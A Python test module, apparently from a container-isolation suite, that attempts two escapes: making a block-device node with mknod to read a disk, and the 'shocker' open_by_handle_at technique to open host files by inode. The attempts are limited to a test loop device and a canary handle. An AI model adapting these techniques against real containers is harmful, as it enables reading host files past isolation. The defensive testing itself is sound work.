"""Ways past the file system: the device under it, and its inodes. See mknod(2), open_by_handle_at(2)."""

from __future__ import annotations

import os
import stat

from section04_filesystem import _syscalls

from ..model import Stopped, trying

TYPE_CHECKING = False
if TYPE_CHECKING:
    from ..inside import Inside


def mknod(inside: Inside) -> str:
    """Make a node of the host's block device and open it.

    A device is two numbers, and a node for it can be made in any folder: with the node of the disk one reads every
    file of the host. (Here it is a loop device of the test's own.) CAP_MKNOD counts in the first user namespace
    only; a mount may be nodev; and a container's cgroup has rules which devices its processes open, whoever made
    the node.
    """
    path = f"{inside.work}/node"
    with trying("mknod", "CAP_MKNOD"):
        os.mknod(path, stat.S_IFBLK | 0o600, os.makedev(*inside.world["device"]))
    try:
        with trying("open", about=f"device {path}"):
            fd = os.open(path, os.O_RDONLY | os.O_CLOEXEC)
        try:
            return os.read(fd, inside.world["length"]).decode(errors="replace")
        finally:
            os.close(fd)
    finally:
        os.unlink(path)


def open_by_handle(inside: Inside) -> str:
    """Open a file by its inode, past all paths.

    open_by_handle_at(2) opens a file by file system and inode, with no path that a root could bound. The known
    exploit ("shocker") took any file of the host's file system that was bound into the container, such as
    /etc/hostname, and tried inode after inode. (Here the attempt is told the handle of the canary, and reads
    nothing else.) It takes CAP_DAC_READ_SEARCH in the first user namespace.
    """
    kind, handle = inside.world["handle"]
    stopped = Stopped("open_by_handle_at", 2)
    for place in ("/", "/etc/hostname", "/etc/hosts", "/etc/resolv.conf"):
        try:
            mount_fd = os.open(place, os.O_RDONLY | os.O_CLOEXEC)
        except OSError:
            continue
        try:
            with trying("open_by_handle_at", "CAP_DAC_READ_SEARCH"):
                fd = _syscalls.open_by_handle_at(mount_fd, kind, bytes.fromhex(handle), os.O_RDONLY | os.O_CLOEXEC)
            with open(fd, encoding="utf-8", errors="replace") as file:
                return file.read(256)
        except Stopped as error:
            stopped = error
        finally:
            os.close(mount_fd)
    raise stopped
